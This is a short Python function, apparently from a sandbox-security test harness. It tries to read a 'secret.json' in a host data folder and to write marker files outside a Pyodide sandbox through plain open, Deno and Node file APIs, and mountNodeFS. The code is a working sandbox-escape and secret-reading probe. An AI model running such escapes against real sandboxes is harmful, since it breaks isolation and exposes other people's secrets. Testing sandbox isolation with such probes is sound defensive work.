# Read the reviewer's data folder and write outside the sandbox: plain open, Deno and Node file APIs, mountNodeFS.
def _h_attack(source_dir):
    data, marker = "__DATA_DIR__", _H_MARKER
    secret = data + "/secret.json"
    _h_try(lambda: _h_loot("open", open(secret).read()))
    for scope in _h_scopes():
        _h_try(lambda: _h_loot("deno-read", scope.Deno.readTextFileSync(secret)))
        _h_try(lambda: _h_loot("deno-readdir", ",".join(e.name for e in scope.Deno.readDirSync(data))))
        _h_try(lambda: _h_loot("node-read", scope.process.getBuiltinModule("fs").readFileSync(secret, "utf8")))
        _h_try(lambda: scope.Deno.writeTextFileSync(marker + "/deno-write", "x"))
        _h_try(lambda: scope.process.getBuiltinModule("fs").writeFileSync(marker + "/node-write", "x"))
    pyodide_js = _h_try(lambda: __import__("pyodide_js"))
    if pyodide_js is not None:
        _h_try(lambda: pyodide_js.mountNodeFS("/hostdata", data))
        _h_try(lambda: _h_loot("mount-read", open("/hostdata/secret.json").read()))
        _h_try(lambda: pyodide_js.mountNodeFS("/hostmarker", marker))

        def write_mounted():
            with open("/hostmarker/mounted-write", "w") as handle:
                handle.write("x")

        _h_try(write_mounted)
